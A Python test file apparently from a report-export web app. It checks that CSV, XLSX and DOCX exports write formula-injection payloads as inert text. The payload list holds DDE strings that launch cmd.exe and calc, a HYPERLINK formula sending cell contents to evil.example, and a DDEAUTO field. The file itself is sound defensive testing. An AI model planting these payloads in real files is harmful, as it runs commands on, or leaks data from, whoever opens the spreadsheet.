"""Issue 9 item 5: text that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR first) is written
as text in the CSV and the XLSX, and nothing in the DOCX is a field that could execute."""
import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.conftest import DEMO_PASSWORD
from tests.reports.helpers import YEAR_2023, add_entry
from webapp.extensions import db
from webapp.security.formulas import TRIGGERS, csv_value, risky

PAYLOADS = ["=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0",
            "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }"]
SIGNER = "=cmd|' /C calc'!A0"
VILLAGE = "=HYPERLINK(\"http://evil.example\",\"Thôn\")"


@pytest.fixture
def hostile(app, commune):
    """Entries whose notes are formula payloads, in a village whose name is one too."""
    from tests import factories

    with app.app_context():
        from webapp.reports import services
        from webapp.units.models import Unit

        village = factories.village("thon-thanh-xa")
        village.name = VILLAGE
        settings = services.settings_for(db.session.get(Unit, commune))
        settings.signer_name = SIGNER
        settings.recipients = PAYLOADS[-1]
        db.session.add(settings)
        for text in PAYLOADS:
            entry = add_entry(male=3, female=4)
            entry.notes = text
        db.session.commit()


def export(client, fmt: str) -> bytes:
    """The officer's export of the 2023 report."""
    client.post("/login", data={"username": "tonghop", "password": DEMO_PASSWORD})
    response = client.get(f"/reports/export.{fmt}", query_string=YEAR_2023)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.data


def test_every_trigger_is_recognised():
    """The six starts OWASP lists, and nothing else (a plain note or a number is left alone)."""
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    assert all(risky(text) for text in PAYLOADS[:-1])
    assert not risky("Tuyên truyền tại nhà văn hóa thôn") and not risky(-5) and not risky(None)
    assert csv_value("=1+2") == "'=1+2" and csv_value(12) == 12 and csv_value("thôn") == "thôn"


def test_csv_writes_formulas_as_text(client, hostile):
    """Opened back: every payload is there, prefixed with an apostrophe; no cell starts with a trigger."""
    text = export(client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    notes = [row[header.index("Ghi chú")] for row in body]
    villages = {row[header.index("Thôn")] for row in body}
    for payload in PAYLOADS:
        expected = "'" + payload if risky(payload) else payload
        assert expected in notes, payload
    assert villages == {"'" + VILLAGE}
    for row in body:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell


def test_xlsx_cells_are_strings_never_formulas(client, hostile):
    """Opened back with openpyxl: the payloads are string cells with their text unchanged."""
    workbook = load_workbook(io.BytesIO(export(client, "xlsx")))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and (cell.value in PAYLOADS or cell.value == VILLAGE):
                    assert cell.data_type == "s"
                    found.append(cell.value)
    assert set(PAYLOADS) <= set(found)
    assert VILLAGE in found
    with zipfile.ZipFile(io.BytesIO(export(client, "xlsx"))) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_docx_holds_the_text_and_no_field(client, hostile):
    """The signer and recipients are printed as text; the document has no field (fldSimple, instrText,
    DDE) that Word could run."""
    data = export(client, "docx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".xml"))
    for marker in (b"fldSimple", b"instrText", b"fldChar", b"ddeLink", b"w:dde"):
        assert marker not in xml, marker
    from docx import Document

    document = Document(io.BytesIO(data))
    texts = [p.text for p in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any(SIGNER in text for text in texts)
    assert any("DDEAUTO" in text for text in texts)
